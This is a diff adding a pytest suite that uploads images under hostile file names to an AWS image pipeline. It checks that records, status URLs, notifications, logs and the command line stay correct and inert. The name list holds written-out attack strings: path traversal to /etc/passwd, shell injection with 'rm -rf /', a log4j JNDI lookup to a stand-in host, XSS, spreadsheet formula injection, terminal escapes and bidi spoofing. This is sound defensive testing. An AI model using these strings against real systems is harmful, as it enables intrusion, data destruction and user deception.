@@ -1,0 +1,440 @@
+"""Names that attack: from the upload to whatever shows them or follows them."""
+
+import http.client
+import json
+import posixpath
+import re
+import unicodedata
+import uuid
+from collections.abc import Collection
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+from urllib.parse import unquote, urlsplit
+
+import pytest
+
+from image_pipeline import keys
+from image_pipeline.errors import UnsupportedFormatError
+from local.pipeline import Execution, Pipeline
+from local.show import JsonLines, Words
+from local.watch import Outcome, Watch
+from tests.conftest import ROOT
+from tests.pictures import opened, photo
+
+FOLDER = "uploads/hostile/"
+PHOTO = photo(120, 80)
+
+
+def filled(character: str, size: int) -> str:
+    """A name that makes its key that many bytes long."""
+    room = size - len(FOLDER)
+    return character * (room // len(character.encode())) + "_" * (room % len(character.encode()))
+
+
+NAMES = {
+    # Folders that somebody resolves, and names that look like them
+    "parent": "../x.jpg",
+    "parents": "../../../../etc/passwd",
+    "parent inside": "a/../b.jpg",
+    "here inside": "a/./b.jpg",
+    "what they resolve to": "b.jpg",
+    "only dots": "..",
+    "one dot": ".",
+    "three dots": ".../x.jpg",
+    "encoded parent": "..%2fx.jpg",
+    "encoded dots": "%2e%2e/x.jpg",
+    "encoded parent as the API would wrap it": "%2E%2E%2Fx%2Ejpg",
+    "twice encoded parent": "%252E%252E%252Fx%252Ejpg",
+    "overlong parent": "..%c0%afx.jpg",
+    "windows parent": "..\\..\\x.jpg",
+    "absolute": "/etc/passwd",
+    "empty folder": "a//b.jpg",
+    "ends in a slash": "album/",
+    "a name that is a folder, too": "album",
+    "tomcat": "..;/x.jpg",
+    # Controls, terminals, directions
+    "spaces around": "  x.jpg  ",
+    "only a space": " ",
+    "tab": "a\tb.jpg",
+    "null": "a\0b.jpg",
+    "encoded null": "a%00b.jpg",
+    "line break": "a\r\nSubject: paid\r\n\r\n<h1>b.jpg",
+    "line feed": "a\nb.jpg",
+    "unix separators": "a\x1c\x1d\x1e\x85\u2028\u2029b.jpg",
+    "colour": "\x1b[31mred\x1b[0m.jpg",
+    "title": "\x1b]0;title\x07.jpg",
+    "hyperlink": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\.jpg",
+    "clear": "\x1bc\x1b[2J\x1b[H.jpg",
+    "eight-bit escape": "\x9b31m\x9d0;t\x9c.jpg",
+    "backspaces": "safe.exe\b\b\b\bjpg",
+    "delete": "\x7f\x7f.jpg",
+    "bidi override": "\u202egpj.exe",
+    "bidi isolate": "\u2066a\u2069\u200e\u200f\u061cb.jpg",
+    "zero width": "in\u200bvoice\u2060\ufeff.jpg",
+    "its double": "invoice.jpg",
+    "joined emoji": "👩\u200d🚀.jpg",
+    "noncharacters": "\ufffe\uffff\U0001ffff.jpg",
+    "replacement": "\ufffd.jpg",
+    # Lengths
+    "1024 bytes": filled("a", 1024),
+    "1023 bytes": filled("b", 1023),
+    "1024 bytes, two each": filled("é", 1024),
+    "1024 bytes, three each": filled("日", 1024),
+    "1024 bytes, four each": filled("🦊", 1024),
+    "1023 bytes, four each": filled("🐺", 1023),
+    "1024 percent signs": filled("%", 1024),
+    "1024 bytes of folders": filled("/", 1024),
+    # Languages that somebody may evaluate
+    "html": "<script>alert(1)</script>.jpg",
+    "attribute": "\" onerror='alert(1)' x=\".jpg",
+    "entity": "&lt;&#x41;]]><Key>.jpg",
+    "json": '"}],\\"status": "COMPLETED\\u0041.jpg',
+    "jsonata": "{% $states.input %}",
+    "jsonata inside": "x%}{% $error('x') %}'&$uuid()&'.jpg",
+    "jsonata words": "`$states`.$upload.key[0]^(a)~>$f",
+    "dynamodb": "#status :status attribute_not_exists(ImageKey) OR 1 = 1",
+    "substitution": "${ImageTableName} ${AWS::AccountId} ${aws:username}.jpg",
+    "shell": "$(id) `id` ; rm -rf / | a & b > c.jpg",
+    "format": "{0} {error.__class__} %s %n.jpg",
+    "log4j": "${jndi:ldap://evil.example/a}",
+    "markup": "[red]x[/red] :smile: [link=http://evil.example]y[/link].jpg",
+    "formula": '=HYPERLINK("http://evil.example","x")',
+    "plus formula": "+1+cmd|' /C calc'!A0",
+    "minus formula": "-1",
+    "at formula": "@SUM(A1:A9)",
+    "wildcard": "*",
+    "wildcards": "[a-z]?.jpg",
+    # URLs
+    "question": "what?.jpg",
+    "encoded question": "what%3F.jpg",
+    "twice encoded question": "what%253F.jpg",
+    "question without a dot": "what?",
+    "encoded question without a dot": "what%3F",
+    "twice encoded question without a dot": "what%253F",
+    "query": "x.jpg?versionId=1&X-Amz-Signature=0",
+    "fragment": "x.jpg#y",
+    "semicolon": "x.jpg;jsessionid=1",
+    "plus": "a+b.jpg",
+    "space": "a b.jpg",
+    "encoded space": "a%20b.jpg",
+    "encoded plus": "a%2Bb.jpg",
+    "encoded percent": "100%25.jpg",
+    "lone percent": "100%.jpg",
+    "half an escape": "100%2",
+    "no UTF-8": "%ff%fe.jpg",
+    "status": "status",
+    "status inside": "x/status",
+    "status of status": "x/status/status",
+    "api path": "/images/uploads/x.jpg/status",
+    "arn": "arn:aws:s3:::bucket/uploads/x.jpg",
+    "s3 url": "s3://bucket/uploads/x.jpg",
+    "url": "http://evil.example/x.jpg",
+    "user info": "@evil.example/x.jpg",
+    # Two keys that look the same
+    "NFC": unicodedata.normalize("NFC", "Grün Åse.jpg"),
+    "NFD": unicodedata.normalize("NFD", "Grün Åse.jpg"),
+    "upper case": "GRÜN ÅSE.JPG",
+    "homoglyph": "b\u0430d.jpg",
+}
+for _name in ("1024 bytes", "parent inside", "colour"):
+    # The upload that is named like the folder of another's renditions
+    _folder = keys.rendition_prefix(FOLDER + NAMES[_name])
+    NAMES[f"impostor of {_name}"] = _folder.removeprefix("thumbnails/hostile/").removesuffix("/")
+
+CHANGED = {
+    name
+    for name, text in NAMES.items()
+    if keys.shown(text) != text or "%25" in keys.status_path(text) or len(text.encode()) > 1000
+}
+"""Those that look different somewhere, or are cut."""
+
+NOT_IN_MOTO = {name for name in NAMES if "\n" in NAMES[name]}
+"""moto's S3 takes no line feed, as S3 does: these are delivered as events, with the bytes of another upload."""
+
+
+HEADERS = {"content-type", "x-content-type-options", "cache-control", "content-length", "apigw-requestid"} | {
+    "server", "date", "connection",
+}  # fmt: skip
+"""The function's, API Gateway's, and those of any server."""
+
+
+@dataclass
+class Seen:
+    """What one upload led to."""
+
+    key: str
+    execution: Execution
+    record: dict[str, Any]
+    notification: dict[str, Any]
+
+
+class Run:
+    """Uploads of the same bytes under many names, all at once.
+
+    Args:
+        pipeline: Where to.
+        folder: What every key starts with.
+        names: Which of `NAMES`.
+        data: What is uploaded.
+    """
+
+    def __init__(self, pipeline: Pipeline, folder: str, names: Collection[str], data: bytes) -> None:
+        self.pipeline, self._folder, self._data = pipeline, folder, data
+        logs = [pipeline.run_dir / "logs" / f"{name}.log" for name in ("server", *pipeline.environments)]
+        before = {path: path.stat().st_size if path.exists() else 0 for path in logs}
+        keys_of = {name: folder + NAMES[name] for name in names}
+        for name in keys_of.keys() - NOT_IN_MOTO:
+            pipeline.upload(keys_of[name], data)
+        stand_in = pipeline.upload(f"{folder}stand-in", data)
+        self._wait_for(len(keys_of.keys() - NOT_IN_MOTO) + 1)
+        pipeline.replace("ValidateImageFunction", lambda event: self._validate(event, stand_in))
+        for name in NOT_IN_MOTO:
+            self._deliver(keys_of[name])
+        self._wait_for(len(names) + 1)
+        pipeline.clear()
+
+        executions = {each.key: each for each in pipeline.executions()}
+        sent = {each["Message"].rpartition("/details/")[2]: each for each in pipeline.notifications()}
+        self.seen = {
+            name: Seen(key, executions[key], pipeline.record(key) or {}, sent[executions[key].arn])
+            for name, key in keys_of.items()
+        }
+        self.logs = {path.stem: path.read_bytes()[size:].decode() for path, size in before.items()}
+
+    def _wait_for(self, count: int) -> None:
+        # A look at the notifications costs less than one at the executions, which need the processor themselves.
+        def told() -> bool:
+            return sum(self._folder in each["Message"] for each in self.pipeline.notifications()) == count
+
+        def through() -> bool:
+            mine = [each for each in self.pipeline.executions() if (each.key or "").startswith(self._folder)]
+            return not any(each.running for each in mine)
+
+        self.pipeline.wait_until(told, "every name to be notified", 300)
+        self.pipeline.wait_until(through, "every name to be through")
+
+    def _deliver(self, key: str) -> None:
+        event = json.loads((ROOT / "events" / "object_created.json").read_text())
+        event["detail"]["bucket"]["name"] = self.pipeline.uploads_bucket
+        event["detail"]["object"] |= {"key": key, "size": len(self._data)}
+        start(self.pipeline, event)
+
+    def _validate(self, event: dict[str, Any], version: str | None) -> dict[str, Any]:
+        if self._data is not PHOTO:
+            raise UnsupportedFormatError(f"{event['upload']['key']} is no picture.", "Upload a picture.")
+        source = {**event["upload"], "key": f"{self._folder}stand-in", "versionId": version}
+        return {"source": source, "image": {}, "milliseconds": 1}
+
+
+def start(pipeline: Pipeline, event: dict[str, Any]) -> str:
+    """Start the workflow with an event; tell the execution's ARN."""
+    arn: str = pipeline.client("stepfunctions").start_execution(
+        stateMachineArn=pipeline.outputs["ProcessImageStateMachineArn"], name=str(uuid.uuid4()), input=json.dumps(event)
+    )["executionArn"]
+    return arn
+
+
+@pytest.fixture(scope="module")
+def pictures(shared_pipeline: Pipeline) -> Run:
+    """Every name with a picture."""
+    return Run(shared_pipeline, FOLDER, NAMES, PHOTO)
+
+
+@pytest.fixture(scope="module")
+def failures(shared_pipeline: Pipeline) -> Run:
+    """The names that are changed somewhere, with what is no picture."""
+    return Run(shared_pipeline, FOLDER.replace("hostile", "HOSTILE"), CHANGED, b"no picture")
+
+
+@pytest.fixture(params=["pictures", "failures"])
+def any_run(request: pytest.FixtureRequest) -> Run:
+    run: Run = request.getfixturevalue(request.param)
+    return run
+
+
+def visit(url: str) -> tuple[int, http.client.HTTPMessage, bytes]:
+    """Fetch a URL as a browser does, which resolves `.` and `..`, encoded or not, before it asks."""
+    parts = urlsplit(url)
+    folders: list[str] = []
+    for folder in parts.path.split("/"):
+        if unquote(folder) == "..":
+            folders.pop()
+        elif unquote(folder) != ".":
+            folders.append(folder)
+    connection = http.client.HTTPConnection(parts.netloc)
+    try:
+        connection.request("GET", "/".join(folders) + (f"?{parts.query}" if parts.query else ""))
+        answer = connection.getresponse()
+        return answer.status, answer.headers, answer.read()
+    finally:
+        connection.close()
+
+
+def status_url(seen: Seen) -> str:
+    """The URL that the notification tells."""
+    (url,) = re.findall(r"^Status: (\S+)$", seen.notification["Message"], re.MULTILINE)
+    return str(url)
+
+
+def test_every_name_has_its_own_record(any_run):
+    """The key in the record is the key of the upload, and its outcome is that of its bytes."""
+    for name, seen in any_run.seen.items():
+        expected = "COMPLETED" if seen.key.startswith(FOLDER) else "FAILED"
+        assert (seen.record["status"], seen.record["ImageKey"], seen.record["upload"]["key"]) == (
+            expected,
+            seen.key,
+            seen.key,
+        ), name
+        assert seen.record["execution"]["id"] == seen.execution.name, name
+
+
+def test_the_url_in_a_notification_gives_that_very_record(any_run):
+    """Whatever its neighbours are called and a browser makes of the URL; as JSON, and with no name in a header."""
+    for name, seen in any_run.seen.items():
+        code, headers, body = visit(status_url(seen))
+        assert (code, headers["content-type"], headers["x-content-type-options"]) == (
+            200,
+            "application/json",
+            "nosniff",
+        ), name
+        assert {header.lower() for header in headers} == HEADERS, name
+        told = json.loads(body)
+        assert (told["ImageKey"], told["execution"]["id"]) == (seen.key, seen.execution.name), name
+    assert len({status_url(seen) for seen in any_run.seen.values()}) == len(any_run.seen)
+
+
+def test_renditions_stay_in_their_folder_and_apart(pictures):
+    """Nothing leaves `thumbnails/`, no two uploads share a rendition, and no tool resolves a part of its name away."""
+    owners: dict[str, str] = {}
+    for name, seen in pictures.seen.items():
+        for rendition in seen.record["renditions"]:
+            key = rendition["key"]
+            assert key.startswith("thumbnails/hostile/"), name
+            assert posixpath.normpath(key) == key, name
+            assert keys.shown(key) == key, name
+            assert len(key.encode()) <= keys.MAX_KEY_BYTES, name
+            assert owners.setdefault(key, name) == name
+    assert len(owners) == len(NAMES) * 4
+
+
+def test_rendition_urls_give_the_picture(pictures):
+    """To a browser, too; and nothing of the name is in the headers."""
+    for name, seen in pictures.seen.items():
+        _, _, body = visit(status_url(seen))
+        for rendition in json.loads(body)["renditions"]:
+            code, headers, data = visit(rendition["url"])
+            assert code == 200, name
+            assert opened(data).size == (rendition["width"], rendition["height"]), name
+            assert headers["content-type"] == f"image/{rendition['format'].lower()}", name
+            assert "content-disposition" not in headers, name
+
+
+def test_notifications_are_one_text_that_nobody_obeys(any_run):
+    """One line for the subject, the same lines as always for the body, nothing that moves or hides."""
+    lines: set[tuple[str, ...]] = set()
+    for name, seen in any_run.seen.items():
+        subject, body = seen.notification["Subject"], seen.notification["Message"]
+        assert re.fullmatch(r"Image (processed|failed): [ -~]+", subject), name
+        assert len(subject) < 100, name
+        assert all(keys.shown(line) == line for line in body.split("\n")), name
+        first, *others = body.split("\n")
+        assert first.startswith(keys.shown(seen.key)), name
+        lines.add(tuple(line.partition(":")[0] for line in others))
+        attributes = {key: each["Value"] for key, each in seen.notification["MessageAttributes"].items()}
+        assert attributes["imageKey"] == keys.shown(seen.key), name
+        assert attributes.keys() == {"status", "imageKey"}, name
+    assert len(lines) == 1
+
+
+def test_logs_have_one_line_for_one_event_and_no_names(any_run):
+    """Every line of a function is JSON in ASCII; nothing of a name is in it, or moves whoever reads the server's."""
+    for log, text in any_run.logs.items():
+        assert all(character.isprintable() or character == "\n" for character in text), log
+        if log != "server":
+            for line in text.splitlines():
+                assert line.isascii(), log
+                assert "hostile" not in json.dumps(json.loads(line)).lower(), log
+    assert any_run.logs["ValidateImageFunction"].count("\n") >= len(any_run.seen) - len(NOT_IN_MOTO)
+
+
+class Only:
+    """The pipeline, with no executions but those of some names."""
+
+    def __init__(self, run: Run, names: Collection[str]) -> None:
+        self._run, self._names = run, names
+
+    def executions(self, _machine: str) -> list[Execution]:
+        return [self._run.seen[name].execution for name in self._names]
+
+    def __getattr__(self, name: str) -> Any:
+        return getattr(self._run.pipeline, name)
+
+
+def test_the_command_line_shows_the_names_and_obeys_none(pictures, capsys):
+    """In words and in JSON lines; files are written where renditions belong, and nowhere else."""
+    folder: Path = pictures.pipeline.run_dir
+    around = set(folder.parent.iterdir()), set(folder.iterdir()) | {folder / "thumbnails"}
+    sights = list(Watch(Only(pictures, CHANGED)).look())
+    outcomes = [sight for sight in sights if isinstance(sight, Outcome)]
+    assert {outcome.key for outcome in outcomes} == {pictures.seen[name].key for name in CHANGED}
+    for display in (Words(), JsonLines()):
+        for sight in sights:
+            display.ended(sight) if isinstance(sight, Outcome) else display.entered(sight)
+        display.outcomes(outcomes)
+        display.verdict(len(outcomes), [f"{outcome.key}: strange." for outcome in outcomes])
+    out, err = capsys.readouterr()
+    assert err == ""
+    for line in out.split("\n"):
+        assert keys.shown(line) == line
+    for outcome in outcomes:
+        assert f"{keys.shown(outcome.key)}  COMPLETED" in out
+        assert json.dumps(outcome.key) in out
+        assert len(outcome.notifications) == 1
+        for path in outcome.files:
+            assert path.startswith("s3://") or Path(path).resolve().is_relative_to(folder / "thumbnails" / "hostile")
+    assert (set(folder.parent.iterdir()), set(folder.iterdir())) == around
+
+
+def test_the_folder_itself_can_be_an_upload(pipeline):
+    """`uploads/` with bytes is a key like any other; its status has an address."""
+    table = pipeline.outputs["ImageTableName"]
+    item = {"ImageKey": {"S": "uploads/"}, "status": {"S": "FAILED"}, "error": {"M": {"code": {"S": "X"}}}}
+    pipeline.client("dynamodb").put_item(TableName=table, Item=item)
+    code, _, body = visit(pipeline.api_url + keys.status_path("uploads/"))
+    pipeline.client("dynamodb").delete_item(TableName=table, Key={"ImageKey": {"S": "uploads/"}})
+    assert (code, json.loads(body)["ImageKey"]) == (200, "uploads/")
+
+
+def test_half_a_character_fails_alone(pipeline):
+    """S3 has no such key, and no record can have it: an event that was made up fails, and what comes next does not."""
+    event = json.loads((ROOT / "events" / "object_created.json").read_text())
+    event["detail"]["object"]["key"] = "uploads/half/\ud800.jpg"
+    arn = start(pipeline, event)
+    pipeline.wait_until(
+        lambda: any(each.arn == arn and each.status == "FAILED" for each in pipeline.executions()), "its end"
+    )
+    pipeline.upload("uploads/half/next.jpg", PHOTO)
+    assert (pipeline.wait_for("uploads/half/next.jpg") or {})["status"] == "COMPLETED"
+
+
+def test_a_deletion_takes_its_own_renditions_and_no_others(pictures):
+    """Also where the one is named like the other's folder, or like what a browser makes of it."""
+    pipeline: Pipeline = pictures.pipeline
+    bucket = pipeline.outputs["ThumbnailsBucketName"]
+    deleted = CHANGED - NOT_IN_MOTO
+    kept = {each["key"] for name in NAMES.keys() - deleted for each in pictures.seen[name].record["renditions"]}
+    for name in deleted:
+        pipeline.client("s3").delete_object(Bucket=pipeline.uploads_bucket, Key=pictures.seen[name].key)
+
+    def stored() -> set[str]:
+        pages = pipeline.client("s3").get_paginator("list_object_versions").paginate(Bucket=bucket)
+        keys_stored = [version["Key"] for page in pages for version in page.get("Versions", [])]
+        return {key for key in keys_stored if key.startswith("thumbnails/hostile/")}
+
+    assert kept < stored()
+    own = {each["key"] for each in (pipeline.record(f"{FOLDER}stand-in") or {})["renditions"]}
+    pipeline.wait_until(lambda: stored() - own == kept, "the renditions to be deleted", 120)
+    for name in NAMES:
+        status = (pipeline.record(pictures.seen[name].key) or {})["status"]
+        assert status == ("DELETED" if name in deleted else "COMPLETED"), name
